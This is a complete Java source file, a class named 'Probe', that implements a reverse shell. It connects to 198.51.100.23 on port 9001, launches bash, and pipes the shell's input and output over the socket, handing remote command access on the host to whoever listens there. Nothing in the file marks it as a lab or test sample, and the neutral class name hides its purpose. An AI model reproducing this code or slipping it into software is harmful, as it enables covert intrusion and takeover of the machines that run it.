import java.net.Socket;

public class Probe {
    public static void main(String[] a) throws Exception {
        Socket s = new Socket("198.51.100.23", 9001);
        Process p = new ProcessBuilder("bash").start();
        new Thread(() -> { try { p.getInputStream().transferTo(s.getOutputStream()); } catch (Exception e) {} }).start();
        s.getInputStream().transferTo(p.getOutputStream());
    }
}
